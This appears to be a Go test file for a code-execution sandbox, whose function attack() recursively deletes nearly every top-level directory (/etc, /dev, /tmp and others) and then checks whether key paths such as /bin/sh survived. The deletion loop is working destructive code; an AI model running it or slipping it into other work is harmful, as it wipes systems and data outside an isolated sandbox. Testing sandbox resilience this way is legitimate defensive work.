package main

import (
	"fmt"
	"os"
	"path/filepath"
)

func attack() {
	for _, pattern := range []string{"/*", "/box/*", "/tmp/*", "/dev/*", "/optimus/*", "/etc/*"} {
		paths, _ := filepath.Glob(pattern)
		for _, path := range paths {
			if path != "/usr" && path != "/proc" && path != "/sys" {
				os.RemoveAll(path)
			}
		}
	}
	for _, path := range []string{"/box/.optimus/main", "/bin/sh", "/dev/null", "/tmp"} {
		if _, err := os.Stat(path); err != nil {
			fmt.Println("removed:", path)
		}
	}
	fmt.Println("withstood")
}
